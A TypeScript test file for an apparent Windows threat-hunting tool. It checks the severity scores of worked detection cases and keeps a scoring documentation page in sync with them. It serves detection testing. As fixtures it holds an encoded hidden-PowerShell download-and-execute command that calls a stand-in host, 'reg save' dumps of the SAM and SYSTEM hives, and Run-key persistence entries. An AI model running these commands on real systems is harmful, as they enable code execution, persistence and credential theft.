/** Scores the worked cases of docs/scoring.md with the shipped content: the page cannot say other numbers. `-u` rewrites it. */
import { readFileSync } from 'node:fs';
import { expect, it } from 'vitest';
import type { JoinedCase } from '../../src/core/case/case.ts';
import type { HuntEvent } from '../../src/core/event/event.ts';
import { compileContent, judge } from '../../src/core/judge/judge.ts';
import { caseOf, NOON, process, runValue } from '../core/hunt/given.ts';
import { shippedContent } from '../shipped.ts';

const PAGE = 'docs/scoring.md';
const content = await shippedContent();
const tables = compileContent(content);
const found = (event: HuntEvent) => ({ status: 'found', event, weak: false }) as const;
const under = (...events: readonly HuntEvent[]) => ({ events, stopped: 'not_logged' }) as const;

const EXPLORER = process('C:\\Windows\\explorer.exe', 'explorer.exe', { id: 'X', at: -9000 });
const CMD = process('C:\\Windows\\System32\\cmd.exe', 'cmd.exe', { id: 'C', at: -60 });
const REG = 'C:\\Windows\\System32\\reg.exe';
const trusted = {
  'process.code_signature.exists': true,
  'process.code_signature.trusted': true,
  'process.code_signature.subject_name': 'Maker Ltd',
  'process.signature': 'trusted',
};
const reg = (line: string, at = 0, parent = CMD) =>
  process(REG, line, {
    id: `R${at}`,
    at,
    fields: { 'process.parent.executable': String(parent.fields['process.executable']) },
  });

interface Worked {
  readonly hunt: string;
  readonly anchor: HuntEvent;
  readonly parts: Partial<JoinedCase>;
  readonly severity: string;
}

const UPDATER = 'C:\\Users\\kim\\AppData\\Local\\Maker\\Update.exe';
const AGENT = process('C:\\Program Files\\Maker\\Backup\\agent.exe', 'agent.exe --nightly', {
  id: 'A',
  at: -30,
});
const TOOL = 'C:\\Program Files\\Maker\\Driver\\tool.exe';
const ENCODED = Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://a.example/p")', 'utf16le');
const RUN_ONCE = 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\DriverTool';

const CASES: Readonly<Record<string, Worked>> = {
  'updater-in-profile': {
    hunt: 'run-key-persistence',
    anchor: runValue('MakerUpdate', `"${UPDATER}" /startup`, { id: 'U' }),
    parts: {
      writer: found(process(UPDATER, `"${UPDATER}"`, { id: 'U', at: -5, fields: trusted })),
      ancestors: under(EXPLORER),
      payloadProcess: found(process(UPDATER, `"${UPDATER}" /startup`, { at: 86_400, fields: trusted })),
    },
    severity: 'low',
  },
  'encoded-powershell': {
    hunt: 'run-key-persistence',
    anchor: runValue('Updater', `powershell.exe -w hidden -enc ${ENCODED.toString('base64')}`, { id: 'R0' }),
    parts: {
      writer: found(reg('reg add HKCU\\Software\\...\\Run /v Updater')),
      ancestors: under(CMD, EXPLORER),
    },
    severity: 'critical',
  },
  'backup-agent': {
    hunt: 'registry-hive-copy',
    anchor: reg('reg save HKLM\\SOFTWARE D:\\Backup\\software.hiv /y', 0, AGENT),
    parts: { ancestors: under(AGENT) },
    severity: 'low',
  },
  'sam-and-system': {
    hunt: 'registry-hive-copy',
    anchor: reg('reg save HKLM\\SAM C:\\Windows\\Temp\\s.tmp'),
    parts: {
      ancestors: under(CMD, EXPLORER),
      neighbours: [reg('reg save HKLM\\SYSTEM C:\\Windows\\Temp\\y.tmp', 4)],
    },
    severity: 'critical',
  },
  'driver-tool': {
    hunt: 'run-key-persistence',
    anchor: runValue('DriverTool', `"${TOOL}" /finish`, {
      id: 'M',
      fields: { 'registry.path': RUN_ONCE, 'registry.value': 'DriverTool' },
    }),
    parts: {
      writer: found(process('C:\\Windows\\System32\\msiexec.exe', 'msiexec.exe /V', { id: 'M', at: -40 })),
      payloadProcess: found(process(TOOL, `"${TOOL}" /finish`, { at: 600, fields: trusted })),
    },
    severity: 'low',
  },
  'administrator-backup': {
    hunt: 'registry-hive-copy',
    anchor: reg('reg export HKLM\\SOFTWARE C:\\Backup\\software.reg /y'),
    parts: { ancestors: under(CMD, EXPLORER) },
    severity: 'low',
  },
};

function judged({ hunt: id, anchor, parts }: Worked) {
  const hunt = content.hunts.find((candidate) => candidate.id === id);
  if (hunt === undefined) throw new Error(`no hunt ${id}`);
  return judge(caseOf(anchor, parts), hunt, tables, NOON);
}

/** The sum as a person would redo it. */
function table(worked: Worked): string {
  const { indicators, mitigations, score, riskScore, severity } = judged(worked);
  const counted = new Map<string, string>();
  for (const { id, group } of indicators) if (!counted.has(group)) counted.set(group, id);
  const isCounted = (id: string, group: string): boolean => counted.get(group) === id;
  const product = score.groups.map(({ weight }) => (1 - weight).toFixed(2)).join(' x ');
  return [
    '| what holds | group | weight or factor |',
    '|---|---|---|',
    ...indicators.map(
      ({ id, name, group, weight }) =>
        `| ${name} | ${group} | ${weight}${isCounted(id, group) ? '' : ' (not counted: its group has more)'} |`,
    ),
    ...mitigations.map(({ name, factor }) => `| ${name} | lowers | x ${factor} |`),
    '',
    `100 x (1 - ${product === '' ? '1' : product}) = ${score.rawScore}; x ${Number(score.factor.toFixed(4))}${
      score.floor > 0 ? `, not below ${score.floor}` : ''
    } = **${riskScore}, ${severity}**`,
  ].join('\n');
}

it.each(Object.entries(CASES))('%s ends where it should', (_id, worked) => {
  expect(judged(worked).severity).toBe(worked.severity);
});

it('says on the page what the shipped content computes', async () => {
  const written = readFileSync(PAGE, 'utf8');
  const seen: string[] = [];
  const page = written.replace(
    /(<!-- case: ([a-z-]+) -->\n)[\s\S]*?(<!-- end -->)/g,
    (_block, open: string, id: string, close: string) => {
      seen.push(id);
      const worked = CASES[id];
      if (worked === undefined) throw new Error(`${PAGE} works out ${id}, which this test does not know`);
      return `${open}\n${table(worked)}\n\n${close}`;
    },
  );
  expect(seen.sort()).toEqual(Object.keys(CASES).sort());
  await expect(page).toMatchFileSnapshot(`../../${PAGE}`);
});
